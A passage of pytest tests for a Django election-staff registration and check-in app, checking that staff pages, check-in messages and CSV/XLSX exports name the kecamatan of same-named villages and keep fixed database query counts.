    def test_a_record_costs_a_fixed_number_of_queries(
        self, client, world, people, user_with, django_assert_num_queries
    ):
        client.force_login(user_with("view_registration"))
        # session, user, permissions (user, groups), the user's KPU office, registration,
        # log, attendance
        with django_assert_num_queries(8):
            client.get(reverse("participants:staff-detail", args=[people["kpu"].pk]))


def test_the_shared_tebo_registration_is_on_the_staff_list(client, tebo_registration, user_with):
    client.force_login(user_with("view_registration"))
    response = client.get(
        reverse("participants:staff-list", args=[tebo_registration.event.slug]) + "?unsur=PPS"
    )
    assert [r.code for r in response.context["page"]] == [tebo_registration.code]
    assert tebo_registration.unit.kind == "PPS" and tebo_registration.seat_number == 1


def test_a_scanner_reading_the_qr_code_types_the_link_and_checks_in(client, world, user_with):
    client.force_login(user_with("check_in"))
    confirm_desk_days(client, world.event)
    person = RegistrationFactory(
        quota_rule=world.pps_rule,
        unit=world.pps[0],
        full_name="Eko",
        status=Registration.Status.VERIFIED,
    )
    desk = reverse("participants:check-in", args=[world.event.slug, "2024-11-12"])
    scanned = f"http://portal.example/daftar/r/{person.code}/"
    html = client.post(desk, {"query": scanned}, follow=True).content.decode()
    assert f"Eko ({RIMBO}) hadir" in html
    assert person.attendances.get().day == dt.date(2024, 11, 12)


class TestDesaOfTheSameNameAreToldApart:
    """Two PPS "Sungai Abang", in Rimbo and in Tengah Ilir: every staff page names the kecamatan."""

    @pytest.fixture
    def twin(self, world, people):
        return RegistrationFactory(
            quota_rule=world.pps_rule,
            unit=add_twin_pps(world),
            full_name="Rahmat Hidayat",
            status=Registration.Status.VERIFIED,
        )

    def test_the_list_names_the_kecamatan_of_each(self, client, world, twin, user_with):
        client.force_login(user_with("view_registration"))
        html = client.get(
            reverse("participants:staff-list", args=[world.event.slug])
        ).content.decode()
        assert RIMBO in html and TENGAH_ILIR in html
        assert "PPK Kec. Tengah Ilir" in html

    def test_the_list_costs_the_same_queries_with_them(
        self, client, world, twin, user_with, django_assert_num_queries
    ):
        client.force_login(user_with("view_registration"))
        with django_assert_num_queries(10):  # as TestList's pin: the kecamatan come joined
            client.get(reverse("participants:staff-list", args=[world.event.slug]))

    def test_the_record_names_the_kecamatan(
        self, client, twin, user_with, django_assert_num_queries
    ):
        client.force_login(user_with("view_registration"))
        with django_assert_num_queries(8):  # as TestQueryCounts' pin
            html = client.get(reverse("participants:staff-detail", args=[twin.pk])).content
        assert TENGAH_ILIR in html.decode()

    def test_the_record_s_history_says_on_which_day_and_for_which_unit(
        self, client, world, user_with
    ):
        from participants.checkin import attendance_check_in
        from participants.services import registration_create, registration_verify

        staff = user_with("view_registration", "check_in")
        registration = registration_create(
            event=world.event,
            quota_rule=world.pps_rule,
            unit=add_twin_pps(world),
            role=world.pps_rule.role,
            person=PersonData(
                full_name="Rahmat Hidayat", nik="1509011705880001", phone="081234567890"
            ),
        )
        registration_verify(registration=registration, actor=staff)
        attendance_check_in(event=world.event, day=DAY1, registration=registration, actor=staff)
        client.force_login(staff)
        html = client.get(reverse("participants:staff-detail", args=[registration.pk])).content
        history = html.decode()[html.decode().index("Riwayat") :]
        assert "hadir · staf-view_registration-check_in · hari: 11 November 2024" in history
        assert f"mendaftar · kursi: 1; badan: {TENGAH_ILIR}" in history

    def test_the_check_in_message_names_the_kecamatan(self, client, world, twin, user_with):
        client.force_login(user_with("check_in"))
        confirm_desk_days(client, world.event)
        desk = reverse("participants:check-in", args=[world.event.slug, "2024-11-11"])
        html = client.post(desk, {"query": twin.code}, follow=True).content.decode()
        assert f"Rahmat Hidayat ({TENGAH_ILIR}) hadir" in html
        assert f"Rahmat Hidayat · {TENGAH_ILIR}" in html  # "last checked in"

    def test_a_check_in_costs_no_query_more_for_the_kecamatan(
        self, client, world, twin, user_with, django_assert_num_queries
    ):
        client.force_login(user_with("check_in"))
        confirm_desk_days(client, world.event)
        desk = reverse("participants:check-in", args=[world.event.slug, "2024-11-11"])
        # session, user, permissions (user, groups), the user's KPU office, event, code,
        # savepoint, lock, earlier, savepoint, insert, release, the day's kept count, log,
        # release, then the unit with its desa and kecamatan (one query, as the bare unit
        # cost before)
        with django_assert_num_queries(17):
            client.post(desk, {"query": twin.code})

    def test_the_desk_lists_matching_names_with_the_kecamatan(self, client, world, twin, user_with):
        RegistrationFactory(
            quota_rule=world.pps_rule,
            unit=world.pps[1],
            full_name="Rahmat Saleh",
            status=Registration.Status.VERIFIED,
        )
        client.force_login(user_with("check_in"))
        confirm_desk_days(client, world.event)
        desk = reverse("participants:check-in", args=[world.event.slug, "2024-11-11"])
        html = client.post(desk, {"query": "rahmat"}).content.decode()
        assert f'Rahmat Hidayat <span class="small text-muted">· {TENGAH_ILIR}' in html
        assert "PPS Desa Teluk Kayu Putih, Kec. Rimbo" in html

    def test_the_exports_name_the_kecamatan(self, client, world, twin, user_with):
        client.force_login(user_with("view_registration"))
        slug = world.event.slug
        response = client.get(reverse("participants:staff-export", args=[slug, "csv"]))
        rows = csv_rows(response)
        unit = rows[0].index("Unit")  # after "L/P" only for those who may see the full NIK
        units = {row[2]: row[unit] for row in rows[1:]}
        assert units["Siti Aminah"] == RIMBO and units["Rahmat Hidayat"] == TENGAH_ILIR
        assert units["Hendra Lubis"] == "PPK Kec. Tengah Ilir"
        assert units["Supriadi"] == "KPU Kabupaten Uji"
        response = client.get(reverse("participants:staff-export", args=[slug, "xlsx"]))
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert {row[2]: row[unit] for row in sheet.iter_rows(min_row=2, values_only=True)} == units
